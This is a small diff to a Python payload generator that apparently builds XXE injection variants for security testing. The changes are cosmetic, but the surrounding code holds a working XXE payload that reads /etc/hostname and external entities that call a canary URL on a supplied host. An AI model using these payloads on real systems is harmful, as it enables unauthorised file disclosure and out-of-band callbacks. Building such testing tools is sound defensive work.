@@ -279,7 +279,8 @@ def xxe(b64, *, idp=None, **_):
     subset, refs = '<!ENTITY xxe SYSTEM "file:///etc/hostname">', "&xxe;"
     if idp:
         canary = f'{idp.rstrip("/")}/__canary/xxe-{secrets.token_hex(6)}'
-        subset += f'\n<!ENTITY xxe_net SYSTEM "{canary}-general">\n<!ENTITY % remote SYSTEM "{canary}-parameter">\n%remote;'
+        subset += (f'\n<!ENTITY xxe_net SYSTEM "{canary}-general">'
+                   f'\n<!ENTITY % remote SYSTEM "{canary}-parameter">\n%remote;')
         refs += "&xxe_net;"
     return _with_doctype(b64, subset, refs)
 
@@ -341,7 +342,7 @@ def main(argv=None):
     args = ap.parse_args(argv)
     if args.list or not args.variants:
         for name, (f, needs_idp) in VARIANTS.items():
-            print(f"{name:18} {'[idp] ' if needs_idp else ''}{f.__doc__.splitlines()[0]}")
+            print(f"{name:18} {'[idp] ' if needs_idp else ''}{' '.join(f.__doc__.split())}")
         return 0
     names = list(VARIANTS) if args.variants == ["all"] else args.variants
     if unknown := [n for n in names if n not in VARIANTS]:
